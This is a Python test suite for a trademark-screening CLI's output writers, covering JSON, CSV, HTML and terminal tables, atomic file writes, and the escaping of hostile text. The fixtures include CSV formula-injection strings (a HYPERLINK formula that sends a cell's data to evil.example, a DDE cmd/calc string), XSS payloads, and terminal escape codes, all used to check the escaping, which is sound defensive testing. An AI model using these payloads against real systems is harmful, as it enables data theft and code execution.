"""Tests of ipr_cli.writers: exact machine formats, and that no data is ever
interpreted — formulas, HTML, Rich markup and escape codes show as text."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import json
import os
import re
import stat
import sys
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from ipr_cli.errors import StoreError, UsageError
from ipr_cli.models import DeclarationLine, Hit, Verdict
from ipr_cli.writers import (
    FORMATS,
    LIST_FORMATS,
    atomic_output,
    check_writer,
    neutralise_cell,
    unneutralise_cell,
    write_record,
    write_rows,
)
from ipr_cli.writers._text import find_span, printable, scrub_surrogates, window

META = {
    "schema_version": 1,
    "ipr_version": "0.1.0",
    "run_id": "20261127-ab12",
    "as_of": "2026-11-27",
    "files": ["declarations.csv"],
}
SUMMARY = {
    "lines_read": 1200,
    "lines_flagged": 2,
    "by_verdict": {"hit": 1, "review": 1},
    "skipped": 7,
    "suppressed": 3,
    "problems": [("declarations.csv", n, "description", "undecodable bytes") for n in range(40, 47)],
    "duration_s": 1.25,
}
SPEC_KEYS = ["schema_version", "ipr_version", "run_id", "as_of", "files", "lines_read", "lines_flagged", "hits"]
HIT_KEYS = [
    "file", "row", "declaration_id", "item_no", "recordation_id", "mark", "holder",
    "score", "verdict", "matched_text", "reasons",
]
# JSON hits: the SPEC's keys, then (additive) the rule behind each reason.
JSON_HIT_KEYS = [*HIT_KEYS, "reason_codes"]
ANSI = "\x1b["


def json_hit(hit):
    return {**hit.to_dict(), "reason_codes": list(hit.reason_codes)}


@pytest.fixture(autouse=True)
def plain_environment(monkeypatch):
    """Output must not depend on the terminal or colour settings of whoever runs the tests."""
    for name in ("NO_COLOR", "FORCE_COLOR", "TTY_COMPATIBLE", "COLUMNS", "LINES", "TERM", "COLORTERM"):
        monkeypatch.delenv(name, raising=False)


class FakeTty(io.StringIO):
    def isatty(self) -> bool:
        return True


def line_and_hit(
    description="Sports shoes NIK3 AIR, 200 pairs",
    matched="NIK3",
    span=(13, 17),
    row=17,
    verdict=Verdict.HIT,
    **hit_fields,
):
    line = DeclarationLine(
        file="declarations.csv", row=row, description=description,
        declaration_id="D-2026-0001", item_no="3", brand=hit_fields.pop("brand", ""),
    )
    fields = dict(
        file="declarations.csv", row=row, declaration_id="D-2026-0001", item_no="3",
        recordation_id="KCS-TM-2024-000123", mark="NIKE", holder="Nike Innovate C.V.",
        score=96, verdict=verdict, matched_text=matched,
        reasons=("mark disguised: digit 3 for E", "origin CN outside authorized origins"),
        span=span,
    )
    fields.update(hit_fields)
    return line, Hit(**fields)


def two_hits():
    first = line_and_hit()
    second = line_and_hit(
        description="나이키운동화 200켤레", matched="나이키", span=(0, 3), row=18,
        verdict=Verdict.REVIEW, score=71, reasons=("registered alias 나이키",),
    )
    return [first, second]


def run(fmt, pairs, *, stream=None, summary=SUMMARY, **kwargs):
    stream = stream if stream is not None else io.StringIO()
    writer = check_writer(fmt, stream, meta=META, **kwargs)
    for line, hit in pairs:
        writer.write(hit, line)
    writer.close(summary)
    return stream.getvalue() if isinstance(stream, io.StringIO) else None


# --- json / jsonl ----------------------------------------------------------------------


def test_json_is_exactly_the_spec_object():
    pairs = two_hits()
    out = run("json", pairs)
    document = json.loads(out)
    assert list(document) == SPEC_KEYS
    assert document == {
        **META,
        "lines_read": 1200,
        "lines_flagged": 2,
        "hits": [json_hit(hit) for _, hit in pairs],
    }
    assert all(list(hit) == JSON_HIT_KEYS for hit in document["hits"])
    # Streamed piecewise, yet byte for byte what json.dumps would print.
    assert out == json.dumps(document, indent=2, ensure_ascii=False) + "\n"
    assert "나이키" in out  # UTF-8, not \uXXXX


def test_json_without_hits():
    out = run("json", [], summary={"lines_read": 5, "lines_flagged": 0})
    assert json.loads(out) == {**META, "lines_read": 5, "lines_flagged": 0, "hits": []}
    assert out == json.dumps(json.loads(out), indent=2) + "\n"


def test_json_escapes_line_separators_and_survives_lone_surrogates():
    line, hit = line_and_hit(description="a\u2028b", matched="N\u2029K\udcff", span=None)
    out = run("json", [(line, hit)])
    out.encode("utf-8")  # a lone surrogate written raw would fail here
    assert "\u2028" not in out and "\u2029" not in out
    assert json.loads(out)["hits"][0]["matched_text"] == "N\u2029K\udcff"


def test_jsonl_is_one_hit_object_per_line_and_streams():
    pairs = two_hits()
    stream = io.StringIO()
    writer = check_writer("jsonl", stream, meta=META)
    writer.write(pairs[0][1], pairs[0][0])
    assert stream.getvalue().count("\n") == 1  # written before the run ends
    writer.write(pairs[1][1], pairs[1][0])
    writer.close(SUMMARY)
    lines = stream.getvalue().split("\n")
    assert lines[-1] == ""
    assert [json.loads(text) for text in lines[:-1]] == [json_hit(hit) for _, hit in pairs]
    assert all(list(json.loads(text)) == JSON_HIT_KEYS for text in lines[:-1])


class FlushCounter(io.StringIO):
    flushes = 0

    def flush(self):
        self.flushes += 1
        super().flush()


@pytest.mark.parametrize("fmt", FORMATS)
def test_writers_flush_at_close_and_jsonl_on_stdout_after_each_hit(fmt, monkeypatch):
    stream = FlushCounter()
    monkeypatch.setattr(sys, "stdout", stream)  # a consumer following a pipe
    writer = check_writer(fmt, stream, meta=META)
    for line, hit in two_hits():
        writer.write(hit, line)
    if fmt == "jsonl":
        assert stream.flushes >= 2
    before = stream.flushes
    writer.close(SUMMARY)
    assert stream.flushes > before and not stream.closed


def test_jsonl_into_an_output_file_is_flushed_once_at_the_end():
    stream = FlushCounter()  # not standard output: an --output file, renamed when done
    writer = check_writer("jsonl", stream, meta=META)
    for line, hit in two_hits():
        writer.write(hit, line)
    assert stream.flushes == 0
    writer.close(SUMMARY)
    assert stream.flushes == 1 and stream.getvalue().count("\n") == 2


def test_jsonl_without_hits_prints_nothing():
    assert run("jsonl", []) == ""


# --- csv -------------------------------------------------------------------------------


def test_csv_has_header_and_one_row_per_hit():
    pairs = two_hits()
    out = run("csv", pairs)
    assert out.count("\r\n") == 3  # RFC 4180
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == HIT_KEYS
    assert len(rows) == 3
    assert rows[1][HIT_KEYS.index("reasons")] == "mark disguised: digit 3 for E; origin CN outside authorized origins"
    assert rows[2][HIT_KEYS.index("matched_text")] == "나이키"


def test_csv_neutralises_formulas_and_round_trips():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    line, hit = line_and_hit(
        matched="@SUM(1+1)", mark=formula, holder="+cmd|' /C calc'!A0", declaration_id="-2+3",
        recordation_id="\t=1", item_no="'=already quoted", span=None,
    )
    out = run("csv", [(line, hit)])
    header, row = list(csv.reader(io.StringIO(out)))
    cells = dict(zip(header, row))
    assert cells["mark"] == "'" + formula
    assert cells["holder"] == "'+cmd|' /C calc'!A0"
    assert cells["matched_text"] == "'@SUM(1+1)"
    assert cells["declaration_id"] == "'-2+3"
    assert cells["recordation_id"] == "'\t=1"
    assert cells["item_no"] == "''=already quoted"
    assert not any(cell[:1] in "=+-@\t\r" and cell for cell in row)
    expected = {k: str(v) if not isinstance(v, list) else "; ".join(v) for k, v in hit.to_dict().items()}
    assert {k: unneutralise_cell(v) for k, v in cells.items()} == expected


@pytest.mark.parametrize("fmt", ["check", "rows"])
def test_csv_keeps_line_breaks_inside_cells(fmt):
    text = "a\rb\nc\r\nd"
    line, hit = line_and_hit(matched="\r=x", mark=text, holder="\n@y", span=None)
    if fmt == "check":
        out = run("csv", [(line, hit)])
    else:
        stream = io.StringIO()
        write_rows([hit.to_dict()], "csv", stream, columns=HIT_KEYS)
        out = stream.getvalue()
    header, row = list(csv.reader(io.StringIO(out, newline="")))
    cells = {k: unneutralise_cell(v) for k, v in zip(header, row)}
    assert (cells["mark"], cells["matched_text"], cells["holder"]) == (text, "\r=x", "\n@y")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),
        ("''-", "'''-"),
        ("NIKE", "NIKE"),
        ("", ""),
        ("'quoted", "'quoted"),
        ("a=b", "a=b"),
        (" =1", " =1"),
    ],
)
def test_neutralise_cell(value, shown):
    assert neutralise_cell(value) == shown
    assert unneutralise_cell(shown) == value


@settings(max_examples=400)
@given(st.one_of(st.text(), st.text(alphabet="'=+-@\t\rAb1 ")))
def test_neutralise_round_trips_and_never_leaves_a_formula(value):
    safe = neutralise_cell(value)
    assert unneutralise_cell(safe) == value
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r") or safe == ""
    assert neutralise_cell(value) == safe  # deterministic


# --- html ------------------------------------------------------------------------------


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)>'
ATTRIBUTE = '" onmouseover="alert(3)'


def test_html_escapes_everything_and_highlights_the_match():
    line, hit = line_and_hit(
        description=f"{HOSTILE} NIK3 shoes", matched="NIK3", span=(len(HOSTILE) + 1, len(HOSTILE) + 5),
        mark=ATTRIBUTE, holder="<b>holder</b>", reasons=(HOSTILE, "ok"), file="a<b>.csv",
    )
    out = run("html", [(line, hit)])
    assert out.startswith("<!DOCTYPE html>")
    assert "<script" not in out.lower()
    assert "<img" not in out.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "&quot; onmouseover=&quot;alert(3)" in out
    assert "<mark>NIK3</mark>" in out
    parser = TagCollector()
    parser.feed(out)
    allowed = {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "dl", "dt", "dd",
               "section", "table", "thead", "tbody", "tr", "th", "td", "br", "span", "mark", "ul", "li",
               "p", "footer"}
    assert set(parser.tags) <= allowed
    assert not [name for name, _ in parser.attributes if name.startswith("on")]
    text = "".join(parser.text)
    assert HOSTILE in text and ATTRIBUTE in text  # shown to the officer as typed


def test_html_is_self_contained_and_printable():
    out = run("html", two_hits())
    assert "<style>" in out and "@media print" in out
    assert "Content-Security-Policy" in out
    assert not re.search(r"https?://|<link|<script|src=|@import|url\(", out, re.I)
    assert "<title>ipr check — run 20261127-ab12</title>" in out
    for text in ("20261127-ab12", "2026-11-27", "declarations.csv", "1,200", "Skipped rows"):
        assert text in out
    assert "<mark>나이키</mark>" in out
    assert out.count("<tr><td>") == 2
    assert "<li>mark disguised: digit 3 for E</li>" in out


def test_html_without_hits_still_gives_a_page():
    out = run("html", [])
    assert "No lines flagged." in out and out.rstrip().endswith("</html>")


# --- table -----------------------------------------------------------------------------


def test_table_prints_markup_in_data_literally_and_no_ansi_off_a_terminal():
    line, hit = line_and_hit(
        description="[bold]NIK3[/bold] [link=https://evil.example]shoes[/link] :warning:",
        span=(6, 10), mark="[red]NIKE[/red]", reasons=("[blink]really[/blink]",),
    )
    out = run("table", [(line, hit)])
    assert ANSI not in out
    for literal in ("[bold]", "[/bold]", "[link=https://evil.example]", "[red]NIKE[/red]", "[blink]really[/blink]", ":warning:"):
        assert literal in out.replace("\n", "").replace(" ", "") or literal in out
    assert "»NIK3«" in out  # the match is marked even without styling


def test_table_summary_panel():
    out = run("table", two_hits())
    meta = {**META, "files": ["/data/in/declarations.csv"]}
    pairs = [line_and_hit(file="/data/in/declarations.csv")]
    short = io.StringIO()
    writer = check_writer("table", short, meta=meta)
    writer.write(pairs[0][1], pairs[0][0])
    writer.close(SUMMARY)
    assert " declarations.csv:17" in short.getvalue() and "/data/in/declarations.csv" in short.getvalue()
    for text in ("Flagged lines (2)", "Lines read", "1,200", "Lines flagged", "hit 1", "review 1",
                 "Suppressed", "Skipped rows", "declarations.csv:40 description: undecodable bytes",
                 "… and 2 more", "20261127-ab12", "2026-11-27"):
        assert text in out, text
    verbose = run("table", two_hits(), verbose=True)
    assert "declarations.csv:46" in verbose and "more" not in verbose
    assert "Nike Innovate C.V." in verbose
    suppressed = {**SUMMARY, "suppressed_hits": [two_hits()[0][1].to_dict()]}
    assert 'declarations.csv:17 NIKE (KCS-TM-2024-000123) "NIK3"' in run("table", [], summary=suppressed, verbose=True)


def test_summary_accepts_verdict_keys():
    summary = {**SUMMARY, "by_verdict": {Verdict.HIT: 4, Verdict.REVIEW: 9}}
    assert "hit 4" in run("table", [], summary=summary)
    assert "<tr><th>Verdict review</th><td>9</td></tr>" in run("html", [], summary=summary)


def test_table_without_hits():
    out = run("table", [], summary={"lines_read": 3, "lines_flagged": 0})
    assert "No lines flagged." in out and "Lines read" in out


def test_table_fits_80_columns_and_elides_huge_descriptions():
    description = "x" * 500_000 + " NIK3 " + "verylongwordwithoutspaces" * 40_000
    line, hit = line_and_hit(description=description, span=(500_001, 500_005),
                             file="/very/long/path/to/the/declarations/of/today/declarations.csv")
    out = run("table", [(line, hit)])
    assert max(cell_len(text) for text in out.splitlines()) <= 80
    assert "»NIK3«" in out and "…" in out
    assert len(out) < 10_000


def test_table_highlights_with_style_on_a_terminal_but_never_passes_escape_codes_through():
    line, hit = line_and_hit(description="NIK3 \x1b[2J\x1b]8;;http://x\x07 \u202eshoes", span=(0, 4))
    out = run("table", [(line, hit)], stream=FakeTty())
    assert ANSI in out  # styled on a terminal
    assert "\x1b[2J" not in out and "\x1b]8" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out and "\\u202e" in out
    assert re.search(r"\x1b\[[0-9;]*43m" + "NIK3", out)  # yellow background on the match


def test_table_respects_no_color(monkeypatch):
    monkeypatch.setenv("NO_COLOR", "1")
    out = run("table", two_hits(), stream=FakeTty())
    colours = [code for seq in re.findall(r"\x1b\[([0-9;]*)m", out) for code in seq.split(";")]
    assert not [c for c in colours if c[:1] in "34" and len(c) == 2]  # no foreground/background colours
    assert "\x1b[1" in out  # bold and underline are not colour, they stay


def test_table_color_switch():
    assert ANSI not in run("table", two_hits(), stream=FakeTty(), color=False)
    assert ANSI in run("table", two_hits(), color=True)


def test_table_falls_back_to_searching_the_matched_text():
    line, hit = line_and_hit(description="shoes nik3 air", matched="NIK3", span=None)
    assert "»nik3«" in run("table", [(line, hit)])
    line, hit = line_and_hit(description="shoes NIK3 air", matched="NIK3", span=(50, 60))
    assert "»NIK3«" in run("table", [(line, hit)])


def test_table_and_html_highlight_a_match_in_the_brand():
    line, hit = line_and_hit(description="running shoes", brand="NAIKEE", matched="NAIKEE", span=(0, 6), field="brand")
    assert "brand: »NAIKEE«" in run("table", [(line, hit)])
    assert "<mark>NAIKEE</mark>" in run("html", [(line, hit)])


# --- listings and records --------------------------------------------------------------

ROWS = [
    {"recordation_id": "=HYPERLINK(\"x\")", "mark": "NIKE", "aliases": ("耐克", "ナイキ"),
     "valid_until": dt.date(2027, 1, 31), "min_unit_value": Decimal("12.50"), "count": -3, "extra": "dropped"},
    {"recordation_id": "KCS-2", "mark": "[bold]X[/bold]", "aliases": (), "valid_until": None,
     "min_unit_value": None, "count": 0},
]
COLUMNS = ["recordation_id", "mark", "aliases", "valid_until", "min_unit_value", "count"]


def test_write_rows_json_is_an_array_streamed_row_by_row():
    stream = io.StringIO()
    seen = []

    def rows():
        for row in ROWS:
            seen.append(stream.getvalue())
            yield row

    assert write_rows(rows(), "json", stream, columns=COLUMNS) == 2
    assert seen[1] != ""  # the first row was out before the second was read
    out = stream.getvalue()
    expected = [{c: row.get(c) for c in COLUMNS} for row in ROWS]
    expected[0].update(aliases=["耐克", "ナイキ"], valid_until="2027-01-31", min_unit_value="12.50")
    expected[1].update(aliases=[])
    assert json.loads(out) == expected
    assert out == json.dumps(expected, indent=2, ensure_ascii=False) + "\n"


def test_write_rows_empty_json_is_an_empty_array():
    stream = io.StringIO()
    assert write_rows(iter([]), "json", stream, columns=COLUMNS) == 0
    assert json.loads(stream.getvalue()) == []


def test_write_rows_jsonl_and_csv():
    stream = io.StringIO()
    write_rows(ROWS, "jsonl", stream, columns=COLUMNS)
    objects = [json.loads(text) for text in stream.getvalue().splitlines()]
    assert [list(o) for o in objects] == [COLUMNS, COLUMNS]
    stream = io.StringIO()
    write_rows(ROWS, "csv", stream, columns=COLUMNS)
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows[0] == COLUMNS
    assert rows[1] == ["'=HYPERLINK(\"x\")", "NIKE", "耐克; ナイキ", "2027-01-31", "12.50", "-3"]
    assert rows[2] == ["KCS-2", "[bold]X[/bold]", "", "", "", "0"]


def test_write_rows_table_is_literal(monkeypatch):
    monkeypatch.setenv("COLUMNS", "160")
    stream = io.StringIO()
    assert write_rows(ROWS, "table", stream, columns=COLUMNS, title="Recordations") == 2
    out = stream.getvalue()
    assert "[bold]X[/bold]" in out and "Recordations" in out and ANSI not in out
    stream = io.StringIO()
    write_rows([], "table", stream, columns=COLUMNS, title="Recordations")
    assert "No recordations." in stream.getvalue()


def test_write_record():
    stream = io.StringIO()
    write_record(ROWS[1], "table", stream, "Recordation KCS-2")
    out = stream.getvalue()
    assert re.search(r"mark\s+\[bold\]X\[/bold\]", out) and "Recordation KCS-2" in out
    stream = FakeTty()
    write_record(ROWS[1], "table", stream, color=False)
    assert ANSI not in stream.getvalue()
    stream = io.StringIO()
    write_record(ROWS[0], "json", stream)
    assert json.loads(stream.getvalue())["valid_until"] == "2027-01-31"
    assert list(json.loads(stream.getvalue())) == list(ROWS[0])


@pytest.mark.parametrize("fmt", ["xml", "", "html"])
def test_unknown_list_format_is_a_usage_error(fmt):
    with pytest.raises(UsageError) as caught:
        write_rows([], fmt, io.StringIO(), columns=["a"])
    # One check of a format name, with the message the command line gives.
    assert caught.value.exit_code == 2
    assert caught.value.message == f"Unknown format {fmt!r}; choose one of: table, json, jsonl, csv."


def test_unknown_check_format_is_a_usage_error():
    with pytest.raises(UsageError):
        check_writer("yaml", io.StringIO(), meta=META)
    assert FORMATS == ("table", "json", "jsonl", "csv", "html")
    assert LIST_FORMATS == ("table", "json", "jsonl", "csv")
    assert check_writer("JSON", io.StringIO(), meta=META) is not None


# --- hostile text in every format ------------------------------------------------------


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    description=st.text(max_size=300),
    matched=st.text(max_size=12),
    reasons=st.lists(st.text(max_size=40), max_size=3),
    span=st.one_of(st.none(), st.tuples(st.integers(-5, 320), st.integers(-5, 320))),
    fmt=st.sampled_from(FORMATS),
)
def test_no_text_breaks_a_writer(description, matched, reasons, span, fmt):
    line, hit = line_and_hit(description=description, matched=matched, span=span, reasons=tuple(reasons), mark=matched)
    out = run(fmt, [(line, hit)])
    out.encode("utf-8")
    if fmt == "json":
        assert json.loads(out)["hits"] == [json.loads(json.dumps(json_hit(hit)))]
    elif fmt == "jsonl":
        assert len(out.splitlines()) == 1
    elif fmt == "csv":
        header, row = list(csv.reader(io.StringIO(out, newline="")))
        cells = dict(zip(header, row))
        assert unneutralise_cell(cells["matched_text"]) == scrub_surrogates(matched)
        assert unneutralise_cell(cells["reasons"]) == scrub_surrogates("; ".join(reasons))
    elif fmt == "table":
        assert "\x1b" not in out


@given(st.text())
def test_printable_leaves_nothing_that_controls_a_terminal(text):
    shown = printable(text)
    assert all(ch.isprintable() or ch == " " or ch.isspace() for ch in shown)
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 for ch in shown)


def test_printable_keeps_ordinary_text():
    assert printable("나이키 NIKE ナイキ café") == "나이키 NIKE ナイキ café"
    assert printable("a\nb\tc") == "a b c"
    assert printable("N\u200bIKE") == "N\\u200bIKE"  # a hidden disguise becomes visible


@given(st.text(max_size=400), st.integers(0, 400), st.integers(0, 400), st.integers(5, 200))
def test_window_is_bounded_and_keeps_the_match(text, a, b, limit):
    span = find_span(text, text[min(a, b):max(a, b)], (min(a, b), max(a, b)))
    before, match, after = window(text, span, limit)
    assert len(before) + len(match) + len(after) <= max(limit, len(text) if len(text) <= limit else 0) + 3
    if span and span[1] - span[0] < limit:
        assert match == text[span[0]:span[1]]


# --- atomic output ---------------------------------------------------------------------


def test_atomic_output_replaces_the_file_on_success(tmp_path):
    target = tmp_path / "hits.jsonl"
    target.write_text("old\n")
    os.chmod(target, 0o640)
    with atomic_output(target) as stream:
        stream.write("나이키\r\n")
        assert target.read_text() == "old\n"  # nothing visible until the end
    assert target.read_bytes() == "나이키\r\n".encode()  # UTF-8, newlines untranslated
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hits.jsonl"]


def test_atomic_output_new_file_gets_umask_permissions(tmp_path):
    old = os.umask(0o027)
    try:
        with atomic_output(str(tmp_path / "new.csv")) as stream:
            stream.write("a\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o640


@pytest.mark.parametrize("error", [RuntimeError("boom"), KeyboardInterrupt()])
def test_atomic_output_keeps_the_old_file_on_error(tmp_path, error):
    target = tmp_path / "report.html"
    target.write_text("old")
    with pytest.raises(type(error)):
        with atomic_output(target) as stream:
            stream.write("half" * 100_000)
            raise error
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_atomic_output_error_without_an_old_file_leaves_nothing(tmp_path):
    with pytest.raises(RuntimeError):
        with atomic_output(tmp_path / "out.json") as stream:
            stream.write("{")
            raise RuntimeError
    assert list(tmp_path.iterdir()) == []


def test_atomic_output_failed_rename_is_a_store_error(tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_text("old")

    def full(*args):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(StoreError) as caught:
        with atomic_output(target) as stream:
            stream.write("new")
    assert caught.value.exit_code == 3 and "No space left" in caught.value.message
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_disk_while_writing_is_a_store_error():
    from ipr_cli.writers._atomic import _GuardedFile

    raw = _GuardedFile(os.open("/dev/full", os.O_WRONLY), "out.csv")
    with pytest.raises(StoreError) as caught:
        with io.TextIOWrapper(io.BufferedWriter(raw), encoding="utf-8") as stream:
            stream.write("x" * 100_000)
    assert caught.value.exit_code == 3


def test_atomic_output_bad_paths_are_usage_errors(tmp_path):
    with pytest.raises(UsageError):
        with atomic_output(tmp_path / "missing" / "out.csv"):
            pass
    with pytest.raises(UsageError):
        with atomic_output(tmp_path):
            pass


def test_atomic_output_writes_through_a_symlink(tmp_path):
    real = tmp_path / "real.txt"
    real.write_text("old")
    link = tmp_path / "link.txt"
    link.symlink_to(real)
    with atomic_output(link) as stream:
        stream.write("new")
    assert link.is_symlink() and real.read_text() == "new"


@pytest.mark.parametrize("path", [None, "-"])
def test_atomic_output_stdout(path, capsys):
    with atomic_output(path) as stream:
        assert stream is sys.stdout
        stream.write("data\n")
    assert not sys.stdout.closed
    assert capsys.readouterr().out == "data\n"


def test_a_whole_check_run_into_atomic_output(tmp_path):
    target = tmp_path / "hits.json"
    with atomic_output(target) as stream:
        run("json", two_hits(), stream=stream)
    assert json.loads(target.read_text("utf-8"))["lines_read"] == 1200
